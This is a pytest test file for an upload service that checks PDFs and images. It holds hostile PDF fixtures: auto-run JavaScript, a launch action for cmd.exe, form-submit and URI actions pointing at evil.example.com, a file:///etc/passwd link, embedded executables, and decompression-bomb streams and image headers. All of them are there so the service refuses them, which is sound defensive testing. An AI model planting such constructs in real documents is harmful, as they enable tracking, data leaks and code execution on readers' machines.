"""Attachments: PDFs read with a real parser, phone photos taken as phones write them, images
decoded within a budget, files moved into place only after the commit, and the sweep."""
from __future__ import annotations

import io
import os
import struct
import time
import zlib

import pikepdf
import pytest
from PIL import Image
from sqlalchemy import select

from fixtures.uploads import PAGE_OBJECTS, build_pdf, page_pdf
from interact.domain.db import db
from interact.domain.errors import ValidationFailed
from interact.domain.models import Attachment
from interact.services import attachments, pdfscan
from interact.services.attachments import CheckedFile, Upload, check_uploads, path_of
from interact.services.pdfscan import Verdict
from interact.services.tx import unit_of_work

SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"


def refused(data: bytes, match: str = "含有脚本") -> None:
    """Assert the upload service refuses `data` as a PDF with the message `match`."""
    with pytest.raises(ValidationFailed, match=match):
        check_uploads([Upload("letter.pdf", data)])


def accepted(data: bytes) -> None:
    """Assert the upload service keeps `data` as a PDF, byte for byte."""
    checked = check_uploads([Upload("letter.pdf", data)])[0]
    assert checked.content_type == "application/pdf" and checked.data == data


# --- PDFs: what a reader would run or fetch is refused, however it is written -----------------

@pytest.mark.parametrize("filters", [
    ("FlateDecode", "FlateDecode"),  # compressed twice
    ("ASCIIHexDecode",),
    ("ASCII85Decode",),
    ("RunLengthDecode",),
    ("FlateDecode", "ASCII85Decode"),
    ("FlateDecode", "ASCIIHexDecode", "FlateDecode"),
])
def test_a_script_packed_in_an_object_stream_is_found_through_every_filter(app, filters):
    objects = dict(PAGE_OBJECTS)
    objects[1] = b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"
    refused(build_pdf(objects, packed={4: SCRIPT}, filters=filters))


def test_an_object_stream_the_cross_reference_table_does_not_list_is_read_too(app):
    # qpdf would not resolve object 4, but a reader that rebuilds the table could.
    objects = dict(PAGE_OBJECTS)
    objects[1] = b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"
    refused(build_pdf(objects, packed={4: SCRIPT}, filters=("FlateDecode", "FlateDecode"), listed=False))


@pytest.mark.parametrize("name,pdf", [
    ("open-script", page_pdf(catalog=b"/OpenAction " + SCRIPT)),
    ("escaped-name", page_pdf(catalog=b"/OpenAction<</S/J#61vaScript/J#53(x)>>")),
    ("document-scripts", page_pdf(catalog=b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", obj4=SCRIPT)),
    ("launch", page_pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>")),
    ("open-uri", page_pdf(catalog=b"/OpenAction<</S/URI/URI(https://evil.example.com/track)>>")),
    ("open-submit", page_pdf(catalog=b"/OpenAction<</S/SubmitForm/F<</FS/URL/F(https://evil.example.com/)>>>>")),
    ("import-data", page_pdf(catalog=b"/OpenAction<</S/ImportData/F(data.fdf)>>")),
    ("page-open-uri", page_pdf(page=b"/AA<</O<</S/URI/URI(https://evil.example.com/)>>>>")),
    ("chained-script", page_pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next " + SCRIPT + b">>")),
    ("xfa", page_pdf(catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>",
                     obj4=b"<</Length 44>>\nstream\n<xdp:xdp><script>app.alert(1)</script></xdp>\nendstream")),
    ("embedded-file", page_pdf(catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe) 4 0 R]>>>>",
                               obj4=b"<</Type/Filespec/F(a.exe)/EF<</F 5 0 R>>>>",
                               obj5=b"<</Type/EmbeddedFile/Length 2>>\nstream\nMZ\nendstream")),
    ("attachment-annotation", page_pdf(page=b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 4 0 R>>]",
                                       obj4=b"<</Type/Filespec/F(a.exe)>>")),
    ("rich-media", page_pdf(page=b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]")),
    ("remote-file-link", page_pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                                       b"/A<</S/GoToR/F(\\\\\\\\host\\\\share\\\\x.pdf)/D[0/Fit]>>>>]")),
    ("script-link", page_pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                                  b"/A<</S/URI/URI(javascript:app.alert\\(1\\))>>>>]")),
    ("file-link", page_pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(file:///etc/passwd)>>>>]")),
])
def test_pdfs_that_would_run_fetch_or_carry_something_are_refused(app, name, pdf):
    assert pikepdf.open(io.BytesIO(pdf)).Root.Type == "/Catalog"  # a PDF qpdf reads without trouble
    refused(pdf)


@pytest.mark.parametrize("name,pdf", [
    ("plain", page_pdf()),
    ("web-link", page_pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]"
                               b"/A<</S/URI/URI(https://www.gov.cn/zhengce/)>>>>]")),
    ("mail-link", page_pdf(page=b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(mailto:a@b.cn)>>>>]")),
    ("open-at-page", page_pdf(catalog=b"/OpenAction[3 0 R/Fit]")),
    ("open-goto", page_pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/FitH 800]>>")),
    ("packed-objects", build_pdf({1: b"<</Type/Catalog/Pages 2 0 R>>"},
                                 packed={2: PAGE_OBJECTS[2], 3: PAGE_OBJECTS[3]},
                                 filters=("FlateDecode", "ASCII85Decode"))),
    ("text-named-javascript", page_pdf(obj4=b"<</Title(How to turn off JavaScript in a browser)>>")),
])
def test_ordinary_pdfs_pass_unchanged(app, name, pdf):
    accepted(pdf)


def test_pdfs_as_qpdf_writes_them_pass_with_and_without_object_streams(app):
    for mode in (pikepdf.ObjectStreamMode.disable, pikepdf.ObjectStreamMode.generate):
        out = io.BytesIO()
        with pikepdf.new() as pdf:
            pdf.add_blank_page(page_size=(595, 842))
            pdf.pages[0].Contents = pdf.make_stream(b"BT /F1 12 Tf 72 712 Td (JavaScript) Tj ET")
            pdf.save(out, object_stream_mode=mode)
        accepted(out.getvalue())


def test_a_pdf_that_needs_a_password_is_refused_one_with_only_permissions_passes(app):
    def encrypted(user: str) -> bytes:
        out = io.BytesIO()
        with pikepdf.new() as pdf:
            pdf.add_blank_page()
            pdf.save(out, encryption=pikepdf.Encryption(owner="owner-secret", user=user))
        return out.getvalue()

    refused(encrypted("open-secret"), match="设有打开密码")
    accepted(encrypted(""))  # opens without a password; only printing or copying is restricted
    hidden = io.BytesIO()
    with pikepdf.new() as pdf:
        pdf.add_blank_page()
        pdf.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
        pdf.save(hidden, encryption=pikepdf.Encryption(owner="owner-secret", user=""))
    assert b"app.alert" not in hidden.getvalue()  # the script's text is encrypted
    refused(hidden.getvalue())


def test_what_cannot_be_checked_within_the_budget_is_refused(app):
    # One stream that inflates past the per-stream limit: qpdf stops decoding it, and we refuse.
    bomb = zlib.compress(b"\x00" * (pdfscan.STREAM_DECODE_BYTES + 1024), 9)
    assert len(bomb) < 100_000
    objects = dict(PAGE_OBJECTS)
    objects[1] = b"<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>"
    refused(build_pdf(objects, packed={4: SCRIPT + b" " + b"\x00" * (pdfscan.STREAM_DECODE_BYTES + 1024)},
                      filters=("FlateDecode",)), match="无法检查")
    assert pdfscan.inspect(build_pdf(objects, packed={4: b"\x00" * (pdfscan.STREAM_DECODE_BYTES + 1024)},
                                     filters=("FlateDecode",))).verdict is Verdict.uncheckable
    # LZW, whose output qpdf cannot bound, is refused whatever it holds.
    lzw = page_pdf(obj4=b"<</Filter/LZWDecode/Length 1>>\nstream\n\x80\nendstream")
    assert pdfscan.inspect(lzw).reason == "LZWDecode"
    refused(lzw, match="无法检查")


@pytest.mark.parametrize("data", [
    b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n",  # no catalog
    b"%PDF-1.7\n" + os.urandom(2000) + b"\n%%EOF\n",
])
def test_a_file_qpdf_cannot_read_is_refused_with_a_clear_message(app, data):
    refused(data, match="已损坏或无法读取")


# --- images -------------------------------------------------------------------------------

def halves(size=(40, 20)) -> Image.Image:
    """A picture red on its left half and blue on its right."""
    img = Image.new("RGB", size, (220, 0, 0))
    img.paste((0, 0, 220), (size[0] // 2, 0, size[0], size[1]))
    return img


def near(pixel, colour) -> bool:
    """Whether a JPEG pixel is within rounding of `colour`."""
    return all(abs(a - b) < 40 for a, b in zip(pixel, colour, strict=True))


def test_phone_photos_in_mpo_are_stored_as_their_first_jpeg_frame(app):
    exif = Image.Exif()
    exif[0x0110] = "PhoneCam 9"
    out = io.BytesIO()
    halves().save(out, format="MPO", save_all=True, append_images=[Image.new("RGB", (40, 20))], exif=exif)
    with Image.open(io.BytesIO(out.getvalue())) as probe:
        assert probe.format == "MPO" and probe.n_frames == 2
    checked = check_uploads([Upload("IMG_0001.JPG", out.getvalue())], images_only=True)[0]
    assert checked.content_type == "image/jpeg" and checked.suffix == ".jpg"
    assert b"PhoneCam" not in checked.data
    with Image.open(io.BytesIO(checked.data)) as img:
        assert img.format == "JPEG" and getattr(img, "n_frames", 1) == 1
        assert near(img.getpixel((2, 10)), (220, 0, 0))  # the first frame, not the black second one


def test_photos_are_turned_upright_by_their_orientation_before_it_is_dropped(app):
    exif = Image.Exif()
    exif[0x0112] = 6  # "rotate 90° clockwise to display": how a phone held upright writes it
    out = io.BytesIO()
    halves((40, 20)).save(out, format="JPEG", exif=exif, quality=95)
    checked = check_uploads([Upload("portrait.jpg", out.getvalue())])[0]
    with Image.open(io.BytesIO(checked.data)) as img:
        assert img.size == (20, 40)
        assert 0x0112 not in img.getexif()
        assert near(img.getpixel((10, 3)), (220, 0, 0)) and near(img.getpixel((10, 36)), (0, 0, 220))


def png_declaring(width: int, height: int) -> bytes:
    """A 1×1 PNG whose header claims `width`×`height` (CRC kept valid)."""
    out = io.BytesIO()
    Image.new("RGB", (1, 1)).save(out, format="PNG")
    data = bytearray(out.getvalue())
    at = data.index(b"IHDR")
    data[at + 4:at + 12] = struct.pack(">II", width, height)
    data[at + 17:at + 21] = struct.pack(">I", zlib.crc32(bytes(data[at:at + 17])) & 0xFFFFFFFF)
    return bytes(data)


def jpeg_declaring(width: int, height: int) -> bytes:
    """A tiny JPEG whose frame header claims `width`×`height`."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8)).save(out, format="JPEG")
    data = bytearray(out.getvalue())
    at = data.index(b"\xff\xc0")
    data[at + 5:at + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def test_the_pixel_bound_is_24_megapixels_read_from_the_header(app):
    with pytest.raises(ValidationFailed, match="尺寸过大"):
        check_uploads([Upload("screenshot.png", png_declaring(5000, 5000))])  # 25 MP
    with pytest.raises(ValidationFailed, match="尺寸过大"):
        check_uploads([Upload("bomb.jpg", jpeg_declaring(65000, 65000))])  # even at 1/8: 66 MP


def test_a_long_phone_screenshot_under_the_bound_passes(app):
    out = io.BytesIO()
    Image.new("L", (1080, 20000), 255).save(out, format="PNG")  # 21.6 MP, a chat history
    checked = check_uploads([Upload("chat.png", out.getvalue())], images_only=True)[0]
    with Image.open(io.BytesIO(checked.data)) as img:
        assert img.size == (1080, 20000)


def test_a_bigger_photo_is_decoded_at_a_reduced_scale_not_refused(app):
    out = io.BytesIO()
    halves((7000, 4000)).save(out, format="JPEG", quality=50)  # 28 MP: a phone's high-resolution mode
    checked = check_uploads([Upload("big.jpg", out.getvalue())])[0]
    with Image.open(io.BytesIO(checked.data)) as img:
        assert img.size == (3500, 2000)
        assert near(img.getpixel((10, 10)), (220, 0, 0)) and near(img.getpixel((3490, 10)), (0, 0, 220))


# --- storage: the commit decides ---------------------------------------------------------

def checked_png() -> CheckedFile:
    """An upload that passed the checks."""
    out = io.BytesIO()
    Image.new("RGB", (4, 4)).save(out, format="PNG")
    return CheckedFile("照片.png", out.getvalue(), "image/png", ".png")


def test_a_file_is_synced_under_a_temporary_name_and_moved_into_place_by_the_commit(app, world, create_case, monkeypatch):
    case, _code = create_case("submitted")
    synced = []
    real_fsync = os.fsync
    monkeypatch.setattr(attachments.os, "fsync", lambda fd: (synced.append(fd), real_fsync(fd))[1])
    with unit_of_work():
        att = attachments.store(checked_png())
        case.attachments.append(att)
        final = path_of(att)
        part = final.with_name(final.name + ".part")
        assert part.is_file() and not final.exists()
        assert part.stat().st_mode & 0o777 == 0o600
        assert len(synced) == 1  # the bytes reached the disk before the commit
    assert final.read_bytes() == checked_png().data and not part.exists()
    assert len(synced) == 2  # and the folder entry after the move


def test_a_rolled_back_store_leaves_no_file(app, world):
    folder = attachments.upload_dir()
    before = set(os.listdir(folder))
    with pytest.raises(RuntimeError), unit_of_work():
        attachments.store(checked_png())
        raise RuntimeError("the case could not be saved")
    assert set(os.listdir(folder)) == before


def test_a_failed_move_after_the_commit_keeps_the_case_and_the_sweep_finishes_it(own_uploads, world, create_case,
                                                                                  monkeypatch):
    case, _code = create_case("submitted")
    with monkeypatch.context() as patch:
        patch.setattr(attachments, "move_into_place", lambda part, final: (_ for _ in ()).throw(OSError("disk")))
        with unit_of_work():  # the commit happened, so no error reaches the citizen
            att = attachments.store(checked_png())
            case.attachments.append(att)
    final = path_of(att)
    part = final.with_name(final.name + ".part")
    assert db.session.get(Attachment, att.id) is not None and part.exists() and not final.exists()
    age(part)
    result = attachments.sweep(older_than_minutes=60)
    assert result.completed == [att.stored_name] and final.read_bytes() == checked_png().data


@pytest.fixture
def own_uploads(app, tmp_path, monkeypatch):
    """An upload folder for this test alone: the shared one holds other tests' files."""
    monkeypatch.setitem(app.config, "INTERACT_UPLOAD_DIR", str(tmp_path / "uploads"))
    return attachments.upload_dir()


def age(path, minutes: int = 120) -> None:
    """Make a file look `minutes` old."""
    then = time.time() - minutes * 60
    os.utime(path, (then, then))


def test_the_sweep_moves_committed_leftovers_and_deletes_orphans_only(own_uploads, world, create_case, png_bytes):
    case, _code = create_case("submitted", uploads=[Upload("ok.png", png_bytes())])
    kept = path_of(case.attachments[0])
    folder = attachments.upload_dir()
    committed = db.session.scalar(select(Attachment).where(Attachment.id == case.attachments[0].id))
    # A committed row whose move was cut short by a SIGKILL.
    kept.rename(kept.with_name(kept.name + ".part"))
    orphan = folder / ("a" * 32 + ".pdf")  # written, then the process died before the commit
    orphan_part = folder / ("b" * 32 + ".jpg.part")
    fresh = folder / ("c" * 32 + ".png.part")  # a transaction that may still be running
    unrelated = folder / "README.txt"
    for path in (orphan, orphan_part, fresh, unrelated):
        path.write_bytes(b"x")
    for path in (kept.with_name(kept.name + ".part"), orphan, orphan_part, unrelated):
        age(path)

    dry = attachments.sweep(older_than_minutes=60, dry_run=True)
    assert dry.completed == [committed.stored_name]
    assert sorted(dry.removed) == sorted([orphan.name, orphan_part.name]) and dry.kept_recent == 1
    assert orphan.exists() and not kept.exists()  # nothing changed

    done = attachments.sweep(older_than_minutes=60)
    assert done.completed == dry.completed and sorted(done.removed) == sorted(dry.removed)
    assert kept.is_file() and not orphan.exists() and not orphan_part.exists()
    assert fresh.exists() and unrelated.exists()
    again = attachments.sweep(older_than_minutes=60)
    assert again.completed == [] and again.removed == []


def test_the_sweep_command(app, own_uploads, world):
    folder = attachments.upload_dir()
    orphan = folder / ("d" * 32 + ".png")
    orphan.write_bytes(b"x")
    age(orphan)
    runner = app.test_cli_runner()
    dry = runner.invoke(args=["attachments", "sweep", "--dry-run"])
    assert dry.exit_code == 0, dry.output
    assert orphan.name in dry.output and "试运行" in dry.output and orphan.exists()
    done = runner.invoke(args=["attachments", "sweep", "--older-than", "90"])
    assert done.exit_code == 0 and "已删除 1 个" in done.output and not orphan.exists()
    assert runner.invoke(args=["attachments", "sweep", "--older-than", "0"]).exit_code == 2
